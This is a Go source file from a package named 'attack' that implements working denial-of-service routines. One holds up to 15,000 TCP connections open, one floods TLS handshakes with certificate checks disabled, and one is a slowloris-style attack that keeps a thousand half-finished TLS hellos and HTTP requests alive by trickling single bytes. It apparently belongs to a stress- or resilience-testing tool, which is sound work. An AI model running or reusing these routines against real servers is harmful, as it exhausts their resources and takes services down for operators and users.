// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"crypto/tls"
	"net"
	"net/netip"
	"strings"
	"sync"
	"time"
)

const wait = time.Second // for whatever an attacker's connection does

func dial(to netip.Addr, port uint16) (*net.TCPConn, error) {
	c, err := net.DialTimeout("tcp", netip.AddrPortFrom(to, port).String(), wait)
	if err != nil {
		return nil, err
	}
	return c.(*net.TCPConn), nil
}

// drop closes with a reset, so that no port of the attacker's is kept busy.
func drop(c net.Conn) {
	if t, ok := c.(*tls.Conn); ok {
		c = t.NetConn()
	}
	_ = c.(*net.TCPConn).SetLinger(0)
	c.Close()
}

// secure dials the endpoint and shakes hands; whose certificate it is, is not asked.
func (a *attacker) secure() (*tls.Conn, error) {
	raw, err := dial(a.Endpoint, 443)
	if err != nil {
		return nil, err
	}
	c := tls.Client(raw, &tls.Config{ServerName: a.Name, InsecureSkipVerify: true})
	_ = c.SetDeadline(time.Now().Add(wait))
	if err := c.Handshake(); err != nil {
		drop(c)
		return nil, err
	}
	_ = c.SetDeadline(a.until.Add(wait))
	return c, nil
}

// connections opens as many as it can, and keeps them to the end.
func connections(a *attacker) error {
	const most = 15000 // of the files that a process may have
	var mu sync.Mutex
	var open []*net.TCPConn
	defer func() {
		for _, c := range open {
			drop(c)
		}
	}()
	a.begun()
	a.crowd(64, func() bool {
		n := a.sent.Load()
		to, port := a.Endpoint, uint16(443)
		if n%4 != 0 {
			to, port = a.Peer, a.Ports[n%int64(len(a.Ports))]
		}
		c, err := dial(to, port)
		a.count(err)
		if err != nil {
			return true
		}
		mu.Lock()
		defer mu.Unlock()
		open = append(open, c)
		return len(open) < most
	})
	time.Sleep(time.Until(a.until))
	return nil
}

// handshakes shakes hands with the endpoint and goes away again.
func handshakes(a *attacker) error {
	a.begun()
	a.crowd(256, func() bool {
		c, err := a.secure()
		a.count(err)
		if err == nil {
			drop(c)
		}
		return true
	})
	return nil
}

// slow has many connections that are never quite there: without a word, with half a
// TLS hello, half a head, half a body, a byte now and then.
func slow(a *attacker) error {
	const many = 1000
	hello := append([]byte{22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3}, make([]byte, 400)...)
	var open []net.Conn
	defer func() {
		for _, c := range open {
			drop(c)
		}
	}()
	next := make([][]byte, 0, many)
	for n := 0; n < many && a.more(); n++ {
		var c net.Conn
		var err error
		var rest []byte
		if n%4 < 2 {
			c, err = dial(a.Endpoint, 443)
			rest = hello[:400*(n%4)]
		} else {
			c, err = a.secure()
			rest = []byte("POST / HTTP/1.1\r\nHost: " + a.Name + "\r\nX: " + strings.Repeat("x", 1000))
			if n%4 == 3 {
				rest = []byte("POST / HTTP/1.1\r\nHost: " + a.Name + "\r\nContent-Length: 100000\r\n\r\n" + strings.Repeat("x", 1000))
			}
		}
		a.count(err)
		if err != nil {
			continue
		}
		if n%4 == 3 { // the head at once
			at := strings.Index(string(rest), "\r\n\r\n") + 4
			_, _ = c.Write(rest[:at])
			rest = rest[at:]
		}
		open, next = append(open, c), append(next, rest)
	}
	a.begun()
	for ; time.Now().Before(a.until); time.Sleep(100 * time.Millisecond) {
		for i, c := range open {
			if len(next[i]) > 0 {
				_, _ = c.Write(next[i][:1])
				next[i] = next[i][1:]
			}
		}
	}
	return nil
}
